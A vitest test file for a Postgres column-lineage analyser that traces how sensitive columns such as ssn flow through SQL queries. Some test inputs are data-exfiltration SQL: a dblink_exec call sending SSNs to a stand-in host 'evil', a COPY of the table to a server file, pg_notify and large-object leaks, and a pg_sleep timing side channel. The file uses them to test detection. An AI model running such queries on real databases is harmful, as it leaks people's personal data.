import { beforeAll, describe, expect, it } from 'vitest';
import { parse, prepareParser } from '../../../../src/protocols/postgres/facts/parser.js';
import { field, type Tree } from '../../../../src/protocols/postgres/facts/tree.js';
import type { Lineage } from '../../../../src/protocols/postgres/lineage/lineage.js';
import { output } from '../../../../src/protocols/postgres/lineage/sources.js';
import { type StatementLineage, statementLineage } from '../../../../src/protocols/postgres/lineage/statement-lineage.js';
import { writtenCatalog } from './written-catalog.js';

const catalog = writtenCatalog({
  tables: {
    'public.c': 'id ssn email name',
    'public.o': 'id c_id total memo',
    'other.c': 'ssn id',
    'pg_catalog.pg_class': 'oid relname',
    'pg_catalog.pg_stats': 'schemaname tablename attname most_common_vals n_distinct',
  },
  views: {
    'public.v': ['id tail whole', 'SELECT c.id, "right"(c.ssn, 4) AS tail, c.ssn AS whole FROM public.c;'],
    'public.vv': ['a b', 'SELECT v.whole AS a, v.tail AS b FROM public.v;'],
    'public.broken': ['a b', 'SELECT 1'],
  },
  functions: ['public.f_all', 'public.upper'],
});

beforeAll(prepareParser);

function trace(sql: string, more: Partial<Parameters<typeof statementLineage>[1]> = {}): StatementLineage {
  const parsed = parse(sql);
  if (parsed.kind !== 'tree') throw new Error(`${sql}: ${parsed.kind}`);
  return statementLineage(field(parsed.statements[0] as Tree, 'stmt'), {
    catalog,
    searchPath: catalog.searchPath,
    temporary: () => null,
    doubtful: () => false,
    steady: true,
    unseenRan: false,
    ...more,
  });
}

/** `=public.c.ssn`: as it is. `~`: made of. `?`: and nobody knows what else. `-`: of no column. */
function words({ columns, exact, unknown }: Lineage): string {
  const names = [...columns]
    .map(({ relation, column }) => `${relation.schema === 'public' ? '' : `${relation.schema}.`}${relation.name}.${column.name}`)
    .sort();
  if (names.length === 0) return unknown === null ? '-' : '?';
  return `${exact ? '=' : '~'}${names.join('+')}${unknown === null ? '' : '?'}`;
}

const outputs = (sql: string): string[] => trace(sql).outputs.map(({ lineage, many }) => `${words(lineage)}${many ? '*' : ''}`);
const conditions = (sql: string): string[] => [...new Set(trace(sql).conditions.map(({ use, lineage }) => `${use} ${words(lineage)}`))];
const flows = (sql: string): string[] => trace(sql).flows.map(({ what, lineage }) => `${what} ← ${words(lineage)}`);

describe('what a value is made of', () => {
  it.each<[string, ...string[]]>([
    ['select ssn from c', '=c.ssn'],
    ['select ssn as y, x.id from c as x', '=c.ssn', '=c.id'],
    ['select c.ssn from public.c', '=c.ssn'],
    ['select public.c.ssn from public.c', '=c.ssn'],
    ['select * from c', '=c.id', '=c.ssn', '=c.email', '=c.name'],
    ['select c.*, o.memo from o, c', '=c.id', '=c.ssn', '=c.email', '=c.name', '=o.memo'],
    ['select * from (select ssn s, id from c) q', '=c.ssn', '=c.id'],
    ['select s from (select ssn from c) q(s)', '=c.ssn'],
    ['with q as materialized (select ssn from c) select * from q', '=c.ssn'],
    ['with q(x) as (select ssn from c) select x, x || 1 from q', '=c.ssn', '~c.ssn'],
    ['select l.s from c, lateral (select c.ssn as s) l', '=c.ssn'],
    ['select (c).ssn from c', '~c.email+c.id+c.name+c.ssn'],
    ['select distinct ssn from c group by ssn', '=c.ssn'],
    ['select ssn::text, ssn::varchar, ssn::varchar(3), ssn::int from c', '=c.ssn', '=c.ssn', '~c.ssn', '~c.ssn'],
    ['table c', '=c.id', '=c.ssn', '=c.email', '=c.name'],
    ["select ssn || '', upper(id::text), substr(ssn, 1, 3) from c", '~c.ssn', '~c.id?', '~c.ssn'],
    ['select coalesce(ssn, email), coalesce(ssn, $1) from c', '=c.email+c.ssn', '=c.ssn'],
    ["select case when ssn like '1%' then 1 else 0 end from c", '~c.ssn'],
    ["select case id when 1 then ssn else 'x' end from c", '~c.id+c.ssn'],
    ['select max(ssn), min(ssn), string_agg(ssn, $1 order by email), count(ssn), count(*) from c', '~c.ssn', '~c.ssn', '~c.email+c.ssn', '-', '-'],
    ['select lag(ssn) over (order by id), row_number() over (order by ssn) from c', '~c.ssn', '-'],
    ['select ntile(id) over (), rank(ssn) within group (order by id), cume_dist() over (order by ssn) from c', '~c.id', '~c.id+c.ssn', '-'],
    ['select pg_mcv_list_items(null)', '?'],
    ['select (select ssn from c limit 1), array(select ssn from c), array[ssn] from c', '=c.ssn', '~c.ssn', '~c.ssn'],
    ['select ssn from c union select memo from o', '=c.ssn+o.memo'],
    ["select 'x' union all select ssn from c", '=c.ssn'],
    ["select v from c, lateral (values (c.ssn), ('x')) as q(v)", '=c.ssn'],
    ["select x from c, unnest(string_to_array(ssn, '-')) as x", '~c.ssn'],
    ['select md5(ssn), hashtext(ssn), encode(ssn::bytea, $1), reverse(ssn), ascii(ssn) from c', '~c.ssn', '~c.ssn', '~c.ssn', '~c.ssn', '~c.ssn'],
    ['select c from c', '~c.email+c.id+c.name+c.ssn'],
    ['select row_to_json(c), to_jsonb(c.*) from c', '~c.email+c.id+c.name+c.ssn', '~c.email+c.id+c.name+c.ssn'],
    ["select to_jsonb(c) ->> 'ssn' from c", '~c.email+c.id+c.name+c.ssn'],
    ['select json_agg(q) from (select ssn from c) q', '~c.ssn'],
    ['select xmlforest(ssn), row(ssn, id)::text from c', '~c.ssn', '~c.id+c.ssn'],
    ["select json_object('a' : ssn), json_array(ssn) from c", '~c.ssn', '~c.ssn'],
    ["select json_query(to_jsonb(c), '$.ssn') from c", '~c.email+c.id+c.name+c.ssn'],
    ['select q.a from c, xmltable($1 passing (ssn::xml) columns a text) q', '~c.ssn'],
    ["select query_to_xml('select ssn from c', true, true, '')", '?'],
    ['select * from f_all()', '?*'],
    ['select f_all()', '?'],
    ['select pg_catalog.upper(ssn) from c', '~c.ssn'],
    ['select ssn is null, (nullif(ssn, $1)) is null from c', '-', '~c.ssn'],
    ['select exists (select 1 from c where ssn = $1)', '-'],
    ["select ssn = $1, ssn in ('a') from c", '~c.ssn', '~c.ssn'],
    ['select $1 in (select ssn from c)', '~c.ssn'],
    ['select generate_series(1, length(ssn)) from c', '~c.ssn'],
    ['select t.total from o as t', '=o.total'],
    ['select t.upper from c as t', '~c.email+c.id+c.name+c.ssn?'],
    ['select ctid, xmin, c.tableoid from c', '-', '-', '-'],
    ['select nowhere from c', '?'],
    ['select x from nowhere', '?'],
    ['select * from nowhere', '?*'],
    ['select relname from pg_class', '-'],
    ['select n_distinct, most_common_vals from pg_stats', '-', '?'],
    ['select other.c.ssn from other.c', '=other.c.ssn'],
    ['select current_user, now(), version(), 1', '-', '-', '-', '-'],
    ['show search_path', '-*'],
    ['explain select ssn from c', '-'],
    ['insert into c (ssn) values ($1) returning ssn, id', '=c.ssn', '=c.id'],
    ['insert into c (ssn) values ($1) returning *', '=c.id', '=c.ssn', '=c.email', '=c.name'],
    ['update o set memo = $1 from c where c.id = o.c_id returning c.ssn, o.memo', '=c.ssn', '=o.memo'],
    ['update c set id = 1 returning old.ssn, new.email', '=c.ssn', '=c.email'],
    ['delete from o using c where c.id = c_id returning *', '=o.id', '=o.c_id', '=o.total', '=o.memo', '=c.id', '=c.ssn', '=c.email', '=c.name'],
    ['with d as (delete from c returning ssn) select * from d', '=c.ssn'],
    ['with m as (merge into c using o on c.id = o.c_id when matched then delete returning c.ssn) select * from m', '=c.ssn'],
    ['copy c to stdout', '=c.id', '=c.ssn', '=c.email', '=c.name'],
    ['copy c (ssn, id) to stdout', '=c.ssn', '=c.id'],
    ['copy (select id, ssn || 1 from c) to stdout', '=c.id', '~c.ssn'],
    ['select c.ssn from c join other.c d on c.id = d.id', '=c.ssn'],
    ['select * from public.c x natural join other.c', '=c.id+other.c.id', '=c.ssn+other.c.ssn', '=c.email', '=c.name'],
    ['select x.* from (c join o on true) as x', '=c.id', '=c.ssn', '=c.email', '=c.name', '=o.id', '=o.c_id', '=o.total', '=o.memo'],
    ['select * from c join o using (id)', '=c.id+o.id', '=c.ssn', '=c.email', '=c.name', '=o.c_id', '=o.total', '=o.memo'],
    ['with recursive t(n, s) as (select 1, ssn from c union all select n + 1, s || $1 from t) select s, n from t', '~c.ssn', '-'],
    ['with recursive t as (select id, ssn as s, email as e from c union all select id, e, s from t) select s from t', '=c.email+c.ssn'],
    ['select tail, whole, id from v', '~c.ssn+v.tail', '=c.ssn+v.whole', '=c.id+v.id'],
    ['select a, b from vv', '=c.ssn+v.whole+vv.a', '~c.ssn+v.tail+vv.b'],
    ['select a from broken', '~broken.a?'],
    ['call p()', '?*'],
  ])('%s', (sql, ...expected) => {
    expect(outputs(sql)).toEqual(expected);
  });

  it('takes every meaning of a name when nobody knows where it is looked up', () => {
    const { outputs: found } = trace('select ssn from c', { searchPath: null });
    expect(found.map(({ lineage }) => words(lineage))).toEqual(['~c.email+c.id+c.name+c.ssn+other.c.id+other.c.ssn']);
  });

  it('knows nothing without a catalog', () => {
    expect(trace('select ssn from c', { catalog: null }).outputs[0]?.lineage.unknown).not.toBeNull();
  });

  it('knows the temporary tables of the session', () => {
    const ssn = trace('select ssn from c').outputs[0]?.lineage;
    const temporary = (name: string) => (name === 'scratch' && ssn !== undefined ? [output('x', ssn)] : null);
    expect(trace('select x from scratch', { temporary }).outputs.map(({ lineage }) => words(lineage))).toEqual(['=c.ssn']);
  });

  it('gives up a text that nests without end', () => {
    const found = trace(`select ${'('.repeat(900)}ssn${' || 1)'.repeat(900)} from c`);
    expect(found.outputs[0]?.lineage.unknown).toContain('too large');
  });
});

describe('what decides', () => {
  it.each<[string, ...string[]]>([
    ['select id from c where ssn = $1', 'equality =c.ssn'],
    ["select id from c where ssn in ('a', 'b') and email is null", 'equality =c.ssn'],
    ['select id from c where ssn in (select memo from o)', 'equality =c.ssn', 'equality =o.memo'],
    ["select id from c where ssn like '1%'", 'other ~c.ssn'],
    ['select id from c where ssn > $1 or ssn < $2', 'other ~c.ssn'],
    ["select id from c where substr(ssn, 1, 1) = '1'", 'other ~c.ssn'],
    ['select id from c order by ssn', 'order =c.ssn'],
    ['select ssn from c order by 1', 'order =c.ssn'],
    ['select ssn as x from c order by x', 'order =c.ssn'],
    ['select count(*) from c group by ssn having max(email) > $1', 'grouping =c.ssn', 'other ~c.email'],
    ['select distinct ssn from c', 'grouping =c.ssn'],
    ['select ssn, count(*) from c group by rollup(1)', 'grouping =c.ssn'],
    ['select ssn, email, name from c group by grouping sets ((1, 2), (), cube(3))', 'grouping =c.ssn', 'grouping =c.email', 'grouping =c.name'],
    ['select ssn, email from c group by (1, 2)', 'grouping =c.ssn', 'grouping =c.email'],
    ['select 1 as ssn, count(*) from c group by ssn', 'grouping =c.ssn'],
    ['select upper(memo) as x from o group by x', 'grouping ~o.memo?'],
    ['select count(distinct ssn), count(distinct id) filter (where email is null) from c', 'grouping =c.ssn', 'grouping =c.id'],
    ['select string_agg(distinct ssn, $1 order by ssn) from c', 'order =c.ssn', 'grouping =c.ssn'],
    ['select count(*) over w from c window w as (partition by left(ssn, 1))', 'grouping ~c.ssn'],
    ['select ssn from c intersect all select memo from o', 'grouping =c.ssn+o.memo'],
    ['select ssn from c except all select memo from o', 'grouping =c.ssn+o.memo'],
    ['select ssn from c union select memo from o', 'grouping =c.ssn+o.memo'],
    ['select ssn from c union all select memo from o'],
    ['with recursive r (v) as (select ssn from c union select v from r) cycle v set y using p select 1 from r', 'grouping =c.ssn', 'grouping ~c.ssn'],
    ['select distinct on (ssn) id from c', 'grouping =c.ssn'],
    ['select 1 from o tablesample system (10) repeatable ((select id from c))', 'other =c.id'],
    ['select 1 from c, lateral (select 1 from o tablesample bernoulli (length(c.ssn))) q', 'other ~c.ssn'],
    ['select 1 from c join o on c.ssn = o.memo', 'equality =c.ssn', 'equality =o.memo'],
    ['select 1 from c join other.c d using (ssn)', 'equality =c.ssn+other.c.ssn'],
    ['select row_number() over (partition by email order by ssn) from c', 'grouping =c.email', 'order =c.ssn'],
    ["select count(*) filter (where ssn like '1%') from c", 'other ~c.ssn'],
    ["select 1 where exists (select 1 from c where ssn like '1%')", 'other ~c.ssn'],
    ["delete from c where ssn like '1%'", 'other ~c.ssn'],
    ["update o set total = 1 from c where c.ssn < '5'", 'other ~c.ssn'],
    ["explain analyze select 1 from c where ssn > '5'", 'other ~c.ssn', 'plan ~c.ssn'],
    ["explain select 1 from c where ssn = '5'", 'equality =c.ssn'],
    ["explain (analyze) declare k cursor for select 1 from c where ssn = '5'", 'equality =c.ssn', 'plan ~c.ssn'],
    ["declare k cursor with hold for select 1 from c where ssn > '5'", 'other ~c.ssn'],
    ["create schema z create view v as select 1 from c where ssn > '5'", 'other ~c.ssn'],
    ["select ssn in ('a', email || name) from c", 'other ~c.email+c.name+c.ssn'],
    ['select c.id from c natural join (select ssn || id as ssn from c) d', 'other ~c.id+c.ssn'],
    ["select pg_sleep(case when ssn like '1%' then 5 else 0 end) from c", 'other ~c.ssn'],
  ])('%s', (sql, ...expected) => {
    expect(conditions(sql)).toEqual(expected);
  });

  it('is sensitive to a number that names a column', () => {
    expect(trace('select ssn from c order by 1').literalSensitive).toBe(true);
    expect(trace("select ssn from c where id = 1 and ssn = '2'").literalSensitive).toBe(false);
  });
});

describe('what flows where', () => {
  it.each<[string, ...string[]]>([
    ['insert into o (memo) select ssn from c', 'o.memo ← =c.ssn'],
    ['update o set memo[length(c.ssn)] = $1 from c', 'o.memo ← ~c.ssn'],
    ['insert into o select id, id, 1, ssn || 1 from c', 'o.id ← =c.id', 'o.c_id ← =c.id', 'o.memo ← ~c.ssn'],
    ['update o set memo = (select ssn from c limit 1)', 'o.memo ← =c.ssn'],
    ['update o set (memo, total) = (select ssn, id from c limit 1)', 'o.memo ← ~c.id+c.ssn', 'o.total ← ~c.id+c.ssn'],
    ['insert into o (memo) values ($1) on conflict (id) do update set memo = (select email from c)', 'o.memo ← =c.email'],
    ["select pg_notify('z', ssn) from c", 'a call of pg_notify ← ~c.ssn'],
    ["select set_config('application_name', ssn, false) from c", 'a call of set_config ← ~c.ssn'],
    ['select lo_from_bytea(0, ssn::bytea) from c', 'a call of lo_from_bytea ← ~c.ssn'],
    ["select dblink_exec('host=evil', ssn) from c", 'a call of dblink_exec ← ~c.ssn'],
    [
      "copy c to '/tmp/x'",
      'a file or program of the server ← =c.id',
      'a file or program of the server ← =c.ssn',
      'a file or program of the server ← =c.email',
      'a file or program of the server ← =c.name',
    ],
    ['merge into o using c on o.c_id = c.id when matched then update set memo = c.ssn', 'o.memo ← =c.ssn'],
    ['merge into o using c on o.c_id = c.id when not matched then insert (id, memo) values (c.id, c.ssn)', 'o.id ← =c.id', 'o.memo ← =c.ssn'],
  ])('%s', (sql, ...expected) => {
    expect(flows(sql)).toEqual(expected);
  });

  it.each([
    ['create table t as select ssn as x, id from c', 't', false],
    ['create temp table t (x, y) as select ssn, id from c', 't', true],
    ['select ssn as x, id into temp t from c', 't', true],
    ['select ssn as x, id into t from c', 't', false],
  ])('%s makes a table', (sql, name, temporary) => {
    const [made] = trace(sql).created;
    expect(made).toMatchObject({ name, temporary });
    expect(made?.columns.map((column) => `${column.name ?? ''} ${words(column.lineage)}`)[0]).toBe('x =c.ssn');
  });
});
